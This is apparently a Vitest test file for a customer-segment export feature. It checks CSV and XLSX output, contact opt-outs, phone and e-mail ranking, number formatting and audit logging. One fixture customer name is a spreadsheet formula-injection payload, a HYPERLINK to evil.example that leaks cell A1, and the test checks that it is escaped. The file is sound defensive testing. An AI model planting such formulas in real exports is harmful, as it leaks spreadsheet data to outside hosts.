import fs from 'node:fs';
import path from 'node:path';
import { PassThrough, Writable } from 'node:stream';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { prepareSegmentExport, type ExportRequest } from '../../src/lib/server/exports/index.ts';
import { countSegment, createSegment, type ExportChannel } from '../../src/lib/server/segments/index.ts';
import ExcelJS from '../../src/lib/server/xlsx/exceljs.ts';
import { segmentsWarehouse, type SegmentsWarehouse } from '../fixtures/segments/fixture.ts';

// Fixture: test/fixtures/segments/marts.sql. Exports of the segment with no conditions
// (every customer) are checked row by row against the hand-made marts.
const clock = () => new Date('2026-07-15T09:00:00Z');
let fx: SegmentsWarehouse;

beforeAll(async () => {
	fx = await segmentsWarehouse();
	await createSegment(fx.warehouse, { name: 'Все клиенты', definition: { conditions: [] } }, 'marina', clock);
});
afterAll(() => fx?.close());

async function exportBytes(request: Partial<ExportRequest> & { channel: ExportChannel }): Promise<{ bytes: Buffer; rows: number; fileName: string }> {
	const prepared = await prepareSegmentExport(fx.warehouse, { segment: 'все клиенты', format: 'csv', locale: 'ru', username: 'marina', via: 'cli', clock, ...request });
	const sink = new PassThrough();
	const chunks: Buffer[] = [];
	sink.on('data', (chunk: Buffer) => chunks.push(chunk));
	const rows = await prepared.run(sink);
	return { bytes: Buffer.concat(chunks), rows, fileName: prepared.fileName };
}

function parseCsv(bytes: Buffer, delimiter = ','): string[][] {
	const text = bytes.toString('utf8');
	expect(text.startsWith('\uFEFF'), 'UTF-8 BOM for Excel').toBe(true);
	const parsed = Papa.parse<string[]>(text.slice(1), { delimiter, skipEmptyLines: true });
	expect(parsed.errors).toEqual([]);
	return parsed.data;
}

async function readXlsx(bytes: Buffer): Promise<string[][]> {
	const workbook = new ExcelJS.Workbook();
	await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
	const sheet = workbook.worksheets[0];
	const width = sheet.getRow(1).cellCount;
	const out: string[][] = [];
	sheet.eachRow({ includeEmpty: false }, (row) => {
		const cells: string[] = [];
		for (let i = 1; i <= width; i++) {
			const value = row.getCell(i).value;
			cells.push(value === null || value === undefined ? '' : value instanceof Date ? value.toISOString().slice(0, 10) : String(value));
		}
		out.push(cells);
	});
	return out;
}

const column = (table: string[][], name: string) => table[0].indexOf(name);
const cellOf = (table: string[][], id: string, name: string) => table.find((row) => row[0] === id)?.[column(table, name)];

describe('a segment exported for every channel', () => {
	let table: string[][];
	let text: string;
	beforeAll(async () => {
		const { bytes, rows } = await exportBytes({ channel: 'all' });
		text = bytes.toString('utf8');
		table = parseCsv(bytes);
		expect(rows).toBe(table.length - 1);
	});

	it('has exactly the rows the segment count shows, one per customer, in name order', async () => {
		const counts = await countSegment(fx.warehouse, { conditions: [] }, { today: clock() });
		const ids = table.slice(1).map((row) => row[0]);
		expect(ids).toHaveLength(counts.exportable.all);
		expect(new Set(ids).size).toBe(ids.length);
		// binary name order: '+7 (999) Ёлка' C06 < '=HYPERLINK…' C03 < '@Тау' C09 < 'ИП Борисов' C02 < 'Каппа' C10 < 'ООО «Альфа»' C01;
		// dead souls C04, C07 and C05 (messenger refusal, no e-mail), C08 (refused all), anonymous C99 are out
		expect(ids).toEqual(['C06', 'C03', 'C09', 'C02', 'C10', 'C01']);
	});

	it('writes the header in the reader’s language', () => {
		expect(table[0]).toEqual([
			'ID клиента',
			'Клиент',
			'Телефон',
			'Email',
			'Город',
			'Канал привлечения',
			'Менеджер',
			'Сегмент RFM',
			'Последняя покупка',
			'Покупок',
			'Выручка, ₽',
			'Прогноз выручки 12 мес., ₽',
			'Вероятность активности',
			'День рождения'
		]);
	});

	it('carries no contact the customer refused', () => {
		// C02 refused e-mail: the phone stays, the address is nowhere in the file
		expect(cellOf(table, 'C02', 'Email')).toBe('');
		expect(cellOf(table, 'C02', 'Телефон')).toBe("'+79162220002");
		expect(text).not.toContain('borisov@mail.ru');
		// C03 refused SMS: the e-mail stays, the phone is nowhere
		expect(cellOf(table, 'C03', 'Телефон')).toBe('');
		expect(text).not.toContain('79163330003');
		// C05 (messenger refusal) and C08 (refused everything) are not in the file at all
		expect(text).not.toContain('79165550005');
		expect(text).not.toContain('sigma@sigma.ru');
	});

	it('escapes cells that a spreadsheet would run as formulas', () => {
		expect(cellOf(table, 'C03', 'Клиент')).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"click")');
		expect(cellOf(table, 'C06', 'Клиент')).toBe("'+7 (999) Ёлка");
		expect(cellOf(table, 'C09', 'Клиент')).toBe("'@Тау");
		for (const row of table.slice(1)) for (const cell of row) expect(cell, `cell «${cell}»`).not.toMatch(/^[=+\-@\t\r\n]/);
	});

	it('writes the best phone and e-mail dim_customer ranks, not the first of the list', () => {
		// C01: best_phone +79161110001, the second of ['+74951110001', '+79161110001']
		expect(cellOf(table, 'C01', 'Телефон')).toBe("'+79161110001");
		// C06: best_email sales@elka.ru, the second of ['elka@elka.ru', 'sales@elka.ru']
		expect(cellOf(table, 'C06', 'Email')).toBe('sales@elka.ru');
	});

	it('writes numbers and dates as they are', () => {
		expect(table.find((row) => row[0] === 'C10')).toEqual([
			'C10', 'Каппа', "'+79160000010", 'kappa@kappa.ru', 'Казань', 'Рекомендации', 'Петрова', 'Потенциально лояльные', '2026-06-15', '6', '120000.5', '70000', '0.9', ''
		]);
		expect(cellOf(table, 'C02', 'День рождения')).toBe('1980-07-05');
	});
});

describe('one channel at a time', () => {
	it('e-mail: only the e-mail column, nobody who refused e-mail', async () => {
		const table = parseCsv((await exportBytes({ channel: 'email' })).bytes);
		expect(table[0]).not.toContain('Телефон');
		// C01 C03 C06 C09 C10 have an address and no refusal; C04 too but is a dead soul
		expect(table.slice(1).map((row) => row[0])).toEqual(['C06', 'C03', 'C09', 'C10', 'C01']);
		const refused = await fx.warehouse.query<{ email: string }>('select unnest(emails) as email from marts.dim_customer where is_email_opt_out');
		for (const { email } of refused) expect(table.flat()).not.toContain(email);
	});

	it('SMS: only the phone column, nobody who refused SMS', async () => {
		const table = parseCsv((await exportBytes({ channel: 'sms' })).bytes);
		expect(table[0]).not.toContain('Email');
		// C01 C02 C05 C06 C09 C10; C03 and C08 refused SMS
		expect(table.slice(1).map((row) => row[0])).toEqual(['C06', 'C09', 'C05', 'C02', 'C10', 'C01']);
	});

	it('messengers: C05 refused them, C03 did not', async () => {
		const table = parseCsv((await exportBytes({ channel: 'messenger' })).bytes);
		expect(table.slice(1).map((row) => row[0])).toEqual(['C06', 'C03', 'C09', 'C02', 'C10', 'C01']);
		expect(cellOf(table, 'C03', 'Телефон')).toBe("'+79163330003");
	});
});

describe('CSV for Russian Excel and XLSX', () => {
	it('with `;` numbers get decimal commas', async () => {
		const table = parseCsv((await exportBytes({ channel: 'sms', delimiter: ';' })).bytes, ';');
		expect(cellOf(table, 'C10', 'Выручка, ₽')).toBe('120000,5');
		// 90000.456 rounded to kopecks
		expect(cellOf(table, 'C05', 'Прогноз выручки 12 мес., ₽')).toBe('90000,46');
		expect(cellOf(table, 'C05', 'Вероятность активности')).toBe('0,85');
	});

	it('XLSX carries the same cells as CSV', async () => {
		const csv = parseCsv((await exportBytes({ channel: 'all' })).bytes);
		const { bytes, fileName } = await exportBytes({ channel: 'all', format: 'xlsx' });
		expect(fileName).toBe('Все клиенты-all-2026-07-15.xlsx');
		expect(bytes.subarray(0, 2).toString()).toBe('PK');
		const xlsx = await readXlsx(bytes);
		expect(xlsx).toEqual(csv);
	});
});

describe('the audit trail', () => {
	it('logs each finished export in audit.exports and audit.access_log', async () => {
		const before = (await fx.warehouse.query<{ n: number }>('select count(*) as n from audit.exports'))[0].n;
		await exportBytes({ channel: 'email', format: 'xlsx' });
		const rows = await fx.warehouse.query('select username, segment, format, row_count, via from audit.exports order by export_id desc limit 1');
		expect(rows).toEqual([{ username: 'marina', segment: 'Все клиенты', format: 'xlsx', row_count: 5, via: 'cli' }]);
		expect((await fx.warehouse.query<{ n: number }>('select count(*) as n from audit.exports'))[0].n).toBe(before + 1);
		const access = await fx.warehouse.query<{ detail: string }>(
			"select username, action, target, status, detail from audit.access_log where action = 'export' order by rowid desc limit 1"
		);
		expect(access[0]).toMatchObject({ username: 'marina', action: 'export', target: 'Все клиенты', status: 'ok' });
		expect(JSON.parse(access[0].detail)).toEqual({ format: 'xlsx', channel: 'email', rows: 5, via: 'cli' });
	});

	it('an export whose reader is gone is not an export: access log says error, audit.exports unchanged', async () => {
		const before = (await fx.warehouse.query<{ n: number }>('select count(*) as n from audit.exports'))[0].n;
		const prepared = await prepareSegmentExport(fx.warehouse, { segment: 'Все клиенты', format: 'csv', channel: 'all', locale: 'ru', username: 'gone', via: 'web', clock });
		const sink = new Writable({ write: (_chunk, _encoding, done) => done() });
		sink.destroy();
		await expect(prepared.run(sink)).rejects.toThrow(/closed before the export finished/);
		expect((await fx.warehouse.query<{ n: number }>('select count(*) as n from audit.exports'))[0].n).toBe(before);
		const access = await fx.warehouse.query("select status from audit.access_log where username = 'gone'");
		expect(access).toEqual([{ status: 'error' }]);
	});
});

describe('on a dim_customer built before best_phone and best_email', () => {
	it('takes the first phone and e-mail of each list, and says so', async () => {
		await fx.warehouse.run('alter table marts.dim_customer drop column best_phone');
		const prepared = await prepareSegmentExport(fx.warehouse, { segment: 'Все клиенты', format: 'csv', channel: 'all', locale: 'ru', username: 'marina', via: 'cli', clock });
		expect(prepared.ranking).toBe('list');
		const { bytes } = await exportBytes({ channel: 'all' });
		const table = parseCsv(bytes);
		expect(cellOf(table, 'C01', 'Телефон')).toBe("'+74951110001");
		expect(cellOf(table, 'C06', 'Email')).toBe('elka@elka.ru');
		expect(table).toHaveLength(7);
	});

	it('writes a file to disk through a file stream', async () => {
		const prepared = await prepareSegmentExport(fx.warehouse, { segment: 'Все клиенты', format: 'xlsx', channel: 'sms', locale: 'en', username: 'marina', via: 'cli', clock });
		const file = path.join(fx.dir, prepared.fileName);
		expect(await prepared.run(fs.createWriteStream(file))).toBe(6);
		const table = await readXlsx(fs.readFileSync(file));
		expect(table[0].slice(0, 3)).toEqual(['Customer ID', 'Customer', 'Phone']);
		expect(table).toHaveLength(7);
	});
});
